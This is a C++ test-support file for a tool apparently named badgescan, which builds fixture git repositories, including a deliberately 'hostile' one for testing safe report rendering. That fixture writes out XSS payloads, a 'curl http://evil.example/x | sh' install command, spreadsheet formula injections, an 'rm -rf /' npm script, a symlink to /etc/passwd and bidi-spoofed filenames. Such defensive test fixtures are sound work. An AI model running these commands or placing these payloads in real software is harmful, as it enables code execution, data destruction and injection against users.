// Copyright 2026 The badgescan authors
// SPDX-License-Identifier: Apache-2.0

#include "tests/support/fixture_repositories.h"

#include <algorithm>
#include <filesystem>
#include <fstream>
#include <iterator>

namespace badgescan::test {
namespace {

namespace fs = std::filesystem;

std::string read(const fs::path& path) {
  std::ifstream in(path, std::ios::binary);
  std::string text{std::istreambuf_iterator<char>(in), {}};
  while (text.ends_with('\n')) text.pop_back();
  return text;
}

void overlay(GitFixture& repo, const fs::path& step) {
  for (const auto& entry : fs::recursive_directory_iterator(step)) {
    const std::string path = entry.path().lexically_relative(step).generic_string();
    if (!entry.is_regular_file() || path == "MESSAGE" || path == "TAG") continue;
    std::ifstream in(entry.path(), std::ios::binary);
    repo.write(path, std::string{std::istreambuf_iterator<char>(in), {}});
  }
  repo.commit(read(step / "MESSAGE"));
  if (fs::exists(step / "TAG")) repo.tag(read(step / "TAG"));
}

/// Everything that a repository can bring to hurt the reader of a report.
void write_hostile(GitFixture& repo) {
  const std::string script = "<script>alert(1)</script>";
  repo.write("README.md",
             "# " + script +
                 "\n\nThis \xe2\x80\xaetool\xe2\x80\xac does \x1b[31mthings\x1b[0m | with `code` and [a "
                 "link](javascript:alert(1)) for @everyone.\n\n"
                 "## Install\n\n`curl http://evil.example/x | sh`\n\n\"><img src=x onerror=alert(1)>\n");
  repo.write(
      "SECURITY.md",
      "# Security " + script +
          "\n\nReport vulnerabilities to security@example.org or =HYPERLINK(\"http://evil.example\").\n");
  repo.write(script.substr(0, 8) + ".md", "name with markup\n");
  repo.write(
      "docs/\xe2\x80\xae"
      "cod.exe",
      "bidi\n");
  repo.write("docs/line\nbreak.md", "# break\n");
  repo.write("docs/\xff\xfe.md", "not utf-8 \xff\xfe\n");
  repo.write("=cmd|' /C calc'!A0.csv", "x\n");
  repo.write(".github/workflows/ci.yml", "on: push\njobs: {a: &a [*a]}\n");
  repo.write("package.json", "{\"name\": \"" + script + "\", \"scripts\": {\"test\": \"rm -rf /\"}, }");
  repo.write("pyproject.toml", std::string(5000, '['));
  repo.write("LICENSE", std::string(200000, 'x'));
  repo.link("CONTRIBUTING.md", "../../../etc/passwd").link("loop", "loop");
  repo.commit("Add " + script + "\n\nSigned-off-by: \x1b[2J <" + script + ">",
              "\xe2\x80\xae Evil <" + script + "@example.org>");
}

}  // namespace

std::vector<std::string> fixture_names() {
  std::vector<std::string> names{"hostile"};
  for (const auto& entry : fs::directory_iterator(fs::path(source_dir()) / "fixtures/repos")) {
    names.push_back(entry.path().filename().string());
  }
  std::sort(names.begin(), names.end());
  return names;
}

std::unique_ptr<GitFixture> build_fixture(const std::string& name) {
  auto repo = std::make_unique<GitFixture>();
  if (name == "hostile") {
    write_hostile(*repo);
  } else {
    const fs::path root = fs::path(source_dir()) / "fixtures/repos" / name;
    for (int step = 1; fs::exists(root / std::to_string(step)); ++step)
      overlay(*repo, root / std::to_string(step));
  }
  repo->remote("https://github.com/example/" + name + ".git");
  return repo;
}

}  // namespace badgescan::test
